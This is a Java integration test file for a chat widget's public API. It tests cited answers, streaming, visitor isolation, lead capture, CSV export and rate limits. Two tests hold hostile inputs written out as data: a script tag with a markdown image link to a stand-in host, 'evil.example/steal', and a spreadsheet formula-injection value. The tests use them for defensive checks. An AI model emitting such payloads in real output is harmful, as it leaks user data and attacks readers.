package it.encaptio.delivery;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import it.encaptio.ItEnvironment;
import it.encaptio.ai.AssistantFixture;
import it.encaptio.capsule.CapsuleApi;
import java.net.http.HttpResponse;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.time.Duration;
import java.time.LocalTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * A visitor through the public API as the widget uses it: a conversation with cited answers (JSON
 * and streamed), resumed by the same visitor only, feedback, a lead (stored once per e-mail with
 * its conversations, listed and exported for editors, emitted for integrations), the inbox, the
 * analytics events, and the limits on messages.
 */
class PublicChatIT {

  private static final CapsuleApi alice = new CapsuleApi("alice.acme");
  private static String capsule;
  private static String key;

  @BeforeAll
  static void capsuleWithLeadForm() {
    capsule = AssistantFixture.capsule(alice, "Visitors " + System.nanoTime());
    JsonNode draft = alice.expect(200, "GET", "/" + capsule, null);
    ObjectNode settings = (ObjectNode) draft.get("draft").deepCopy();
    settings
        .putObject("leadForm")
        .put("enabled", true)
        .put("title", "Book a viewing")
        .put("consent", "I agree to be contacted about the loft.")
        .<ObjectNode>set(
            "fields", ItEnvironment.JSON.valueToTree(new String[] {"name", "email", "company"}))
        .set("required", ItEnvironment.JSON.valueToTree(new String[] {"email"}));
    alice.saveDraft(draft, settings);
    key = alice.expect(200, "POST", "/" + capsule + "/publish", null).get("publicKey").asText();
  }

  @Test
  void aVisitorAsksGetsCitedAnswersAndResumesItsConversation() {
    Visitor visitor = new Visitor(key);
    String conversation = visitor.start();
    assertThat(visitor.visitorId).matches("[A-Za-z0-9_-]{16,80}");

    JsonNode answer = visitor.answer(conversation, "What time is check-out?");
    assertThat(answer.get("text").asText()).contains("11:00");
    assertThat(answer.get("outcome").asText()).isEqualTo("answered");
    assertThat(answer.at("/citations/0/itemTitle").asText()).isEqualTo("House rules");
    assertThat(answer.has("passages")).as("no retrieval internals for visitors").isFalse();
    assertThat(answer.has("model")).isFalse();

    HttpResponse<String> streamed =
        visitor.ask(conversation, "How much is the rent?", "Accept", "text/event-stream");
    assertThat(streamed.statusCode()).isEqualTo(200);
    assertThat(streamed.headers().firstValue("Content-Type").orElse(""))
        .startsWith("text/event-stream");
    assertThat(streamed.body()).contains("event: token").contains("event: answer");
    String last = streamed.body().substring(streamed.body().lastIndexOf("event: answer"));
    JsonNode streamedAnswer =
        ItEnvironment.json(last.substring(last.indexOf("data:") + 5).strip().split("\n")[0]);
    assertThat(streamedAnswer.get("text").asText()).contains("1,450 euros");
    assertThat(streamedAnswer.at("/citations/0/itemTitle").asText()).isEqualTo("Rent and costs");

    JsonNode resumed = visitor.expect(200, "GET", "/conversations/" + conversation, null);
    assertThat(resumed.get("messages")).hasSize(4);
    assertThat(resumed.at("/messages/1/citations/0/itemTitle").asText()).isEqualTo("House rules");
    assertThat(resumed.at("/messages/1").has("model")).as("not which model answered").isFalse();

    Visitor stranger = new Visitor(key);
    stranger.visitorId = "someone-else-0123456789";
    assertThat(stranger.call("GET", "/conversations/" + conversation, null).statusCode())
        .as("another visitor does not see it")
        .isEqualTo(404);
    assertThat(stranger.ask(conversation, "What time is check-out?").statusCode()).isEqualTo(404);
    Visitor anonymous = new Visitor(key);
    HttpResponse<String> noId = anonymous.call("GET", "/conversations/" + conversation, null);
    assertThat(noId.statusCode()).isEqualTo(400);
    assertThat(noId.body()).contains("Encaptio-Visitor");

    String answerId = answer.get("messageId").asText();
    visitor.expect(204, "POST", "/messages/" + answerId + "/feedback", "{\"value\": 1}");
    assertThat(
            stranger
                .call("POST", "/messages/" + answerId + "/feedback", "{\"value\": -1}")
                .statusCode())
        .isEqualTo(404);
    assertThat(visitor.call("POST", "/messages/" + answerId + "/feedback", "{}").statusCode())
        .isEqualTo(400);
    visitor.expect(
        204,
        "POST",
        "/events",
        "{\"conversationId\": \""
            + conversation
            + "\", \"kind\": \"button-click\","
            + " \"detail\": \"Book a call\"}");

    assertThat(kinds(conversation))
        .containsExactlyInAnyOrder(
            "open", "message", "answer", "message", "answer", "feedback", "button-click");
  }

  @Test
  void hostileQuestionsComeBackAsPlainTextAndBadInputIsRefused() {
    Visitor visitor = new Visitor(key);
    String conversation = visitor.start();
    String hostile =
        "<script>alert(1)</script> ![x](https://evil.example/steal?q=secret) check-out?";
    JsonNode answer = visitor.answer(conversation, hostile);
    JsonNode stored = visitor.expect(200, "GET", "/conversations/" + conversation, null);
    assertThat(stored.at("/messages/0/text").asText())
        .as("kept as the visitor typed it: the page renders it as text")
        .isEqualTo(hostile);
    assertThat(answer.get("text").asText()).doesNotContain("<script>").doesNotContain("evil");

    HttpResponse<String> tooLong = visitor.ask(conversation, "a".repeat(1001));
    assertThat(tooLong.statusCode()).isEqualTo(400);
    assertThat(tooLong.body()).contains("1000 characters");
    assertThat(visitor.ask(conversation, " ").statusCode()).isEqualTo(400);
    assertThat(
            visitor
                .call("POST", "/conversations/" + conversation + "/messages", "{not json")
                .statusCode())
        .isEqualTo(400);
    assertThat(
            new Visitor("pk_aaaaaaaaaaaaaaaaaaaaaaaa")
                .call("POST", "/conversations", "{}")
                .statusCode())
        .isEqualTo(404);
    assertThat(
            visitor
                .call("POST", "/conversations", "{\"visitorId\": \"no spaces allowed here!\"}")
                .statusCode())
        .isEqualTo(400);
  }

  @Test
  void aLeadIsStoredOncePerEmailWithItsConversationsAndEmittedForIntegrations() {
    Visitor visitor = new Visitor(key);
    String first = visitor.start();
    visitor.answer(first, "Are dogs allowed?");
    HttpResponse<String> invalid =
        visitor.lead(first, Map.of("email", "not-an-address", "phone", "123"), false);
    assertThat(invalid.statusCode()).isEqualTo(400);
    JsonNode problems = ItEnvironment.json(invalid.body()).get("errors");
    assertThat(problems.has("email")).isTrue();
    assertThat(problems.has("phone")).as("not a field of this form").isTrue();
    assertThat(problems.get("consent").asText()).contains("I agree to be contacted");

    String email = "ada." + System.nanoTime() + "@example.com";
    HttpResponse<String> created =
        visitor.lead(first, Map.of("email", email, "name", "=HYPERLINK(\"x\")"), true);
    assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
    String leadId = ItEnvironment.json(created.body()).get("leadId").asText();

    String second = visitor.start();
    visitor.answer(second, "Where can I park?");
    HttpResponse<String> again =
        visitor.lead(second, Map.of("email", email.toUpperCase(), "company", "Analytical"), true);
    assertThat(again.statusCode()).as("the same e-mail updates the lead").isEqualTo(200);
    assertThat(ItEnvironment.json(again.body()).get("leadId").asText()).isEqualTo(leadId);

    JsonNode leads = alice.expect(200, "GET", "/" + capsule + "/leads", null);
    JsonNode lead = find(leads, "id", leadId);
    assertThat(lead.get("email").asText()).isEqualTo(email);
    assertThat(lead.get("company").asText()).isEqualTo("Analytical");
    assertThat(lead.get("name").asText()).as("kept from the first time").startsWith("=HYPERLINK");
    assertThat(lead.get("submissions").asInt()).isEqualTo(2);
    assertThat(lead.get("conversations")).hasSize(2);

    HttpResponse<String> csv =
        alice.call("GET", "/" + capsule + "/leads", null, "Accept", "text/csv");
    assertThat(csv.statusCode()).isEqualTo(200);
    assertThat(csv.headers().firstValue("Content-Disposition").orElse("")).contains("leads.csv");
    assertThat(csv.body()).contains("email,name,phone,company");
    String row = csv.body().lines().filter(l -> l.startsWith(email)).findFirst().orElseThrow();
    assertThat(row).as("a formula stays text in a spreadsheet").contains("'=HYPERLINK(");

    JsonNode events = alice.expectAt(200, "GET", "/api/v1/events?kind=lead.captured&max=50", null);
    List<JsonNode> ours = new ArrayList<>();
    events.forEach(
        e -> {
          JsonNode payload = ItEnvironment.json(e.get("payload").asText());
          if (payload.get("leadId").asText().equals(leadId)) {
            ours.add(payload);
          }
        });
    assertThat(ours).hasSize(2);
    JsonNode latest = ours.get(0);
    assertThat(latest.at("/contact/email").asText()).isEqualTo(email);
    assertThat(latest.get("conversationId").asText()).isEqualTo(second);
    assertThat(latest.at("/transcript/1/citations/0/item").asText()).isEqualTo("Getting there");

    JsonNode inbox = alice.expect(200, "GET", "/" + capsule + "/conversations", null);
    JsonNode listed = find(inbox, "id", second);
    assertThat(listed.get("leadId").asText()).isEqualTo(leadId);
    assertThat(listed.get("channel").asText()).isEqualTo("widget");
    assertThat(listed.get("questions").asInt()).isEqualTo(1);
    JsonNode detail = alice.expect(200, "GET", "/" + capsule + "/conversations/" + second, null);
    assertThat(detail.at("/lead/email").asText()).isEqualTo(email);
    assertThat(detail.at("/messages/1/citations/0/itemTitle").asText()).isEqualTo("Getting there");
  }

  @Test
  void theInboxFlagsConversationsWithUnansweredQuestions() {
    Visitor visitor = new Visitor(key);
    String unanswered = visitor.start();
    JsonNode refused = visitor.answer(unanswered, "Is there a rooftop swimming pool?");
    assertThat(refused.get("outcome").asText()).isEqualTo("refused");
    assertThat(refused.get("text").asText()).isEqualTo(AssistantFixture.NO_ANSWER);
    String answered = visitor.start();
    visitor.answer(answered, "What time is check-in?");

    JsonNode flagged =
        alice.expect(200, "GET", "/" + capsule + "/conversations?unanswered=true&max=500", null);
    List<String> ids = new ArrayList<>();
    flagged.forEach(c -> ids.add(c.get("id").asText()));
    assertThat(ids).contains(unanswered).doesNotContain(answered);
    assertThat(find(flagged, "id", unanswered).get("unanswered").asInt()).isEqualTo(1);
  }

  @Test
  void theMessageAfterTheVisitorsLimitGets429WithRetryAfter() {
    // ten questions a minute per visitor on the starter plan; keep the burst inside one minute
    if (LocalTime.now(ZoneOffset.UTC).getSecond() > 45) {
      ItEnvironment.pause(Duration.ofSeconds(61 - LocalTime.now(ZoneOffset.UTC).getSecond()));
    }
    Visitor visitor = new Visitor(key);
    String conversation = visitor.start();
    for (int i = 1; i <= 10; i++) {
      assertThat(visitor.ask(conversation, "Question " + i + ": is smoking allowed?").statusCode())
          .as("question %d", i)
          .isEqualTo(200);
    }
    HttpResponse<String> limited = visitor.ask(conversation, "Is smoking allowed?");
    assertThat(limited.statusCode()).isEqualTo(429);
    assertThat(limited.headers().firstValue("Content-Type").orElse(""))
        .startsWith("application/problem+json");
    long retryAfter = Long.parseLong(limited.headers().firstValue("Retry-After").orElseThrow());
    assertThat(retryAfter).isBetween(1L, 60L);
    assertThat(ItEnvironment.json(limited.body()).get("type").asText()).endsWith("/rate-limited");

    Visitor other = new Visitor(key);
    assertThat(other.ask(other.start(), "Is smoking allowed?").statusCode())
        .as("another visitor still asks")
        .isEqualTo(200);
  }

  @Test
  void aFullConversationAsksTheVisitorToStartANewOne() throws Exception {
    Visitor visitor = new Visitor(key);
    String conversation = visitor.start();
    try (Connection db = ItEnvironment.database();
        Statement sql = db.createStatement()) {
      String schema = ItEnvironment.tenantSchema(db, "acme");
      sql.executeUpdate(
          "INSERT INTO \""
              + schema
              + "\".message (id, conversation_id, ordinal, role, text, created_at)"
              + " SELECT gen_random_uuid(), '"
              + conversation
              + "', n, 'visitor', 'question ' || n, now() FROM generate_series(1, 40) n");
    }
    HttpResponse<String> full = visitor.ask(conversation, "What time is check-out?");
    assertThat(full.statusCode()).isEqualTo(409);
    assertThat(full.body()).contains("start a new conversation");
  }

  private static List<String> kinds(String conversation) {
    try (Connection db = ItEnvironment.database();
        Statement sql = db.createStatement()) {
      String schema = ItEnvironment.tenantSchema(db, "acme");
      List<String> kinds = new ArrayList<>();
      try (ResultSet rows =
          sql.executeQuery(
              "SELECT kind FROM \""
                  + schema
                  + "\".analytics_event WHERE conversation_id = '"
                  + conversation
                  + "'")) {
        while (rows.next()) {
          kinds.add(rows.getString(1));
        }
      }
      return kinds;
    } catch (java.sql.SQLException e) {
      throw new IllegalStateException(e);
    }
  }

  static JsonNode find(JsonNode array, String field, String value) {
    for (JsonNode element : array) {
      if (element.get(field).asText().equals(value)) {
        return element;
      }
    }
    throw new AssertionError("no element with " + field + " = " + value + " in " + array);
  }
}
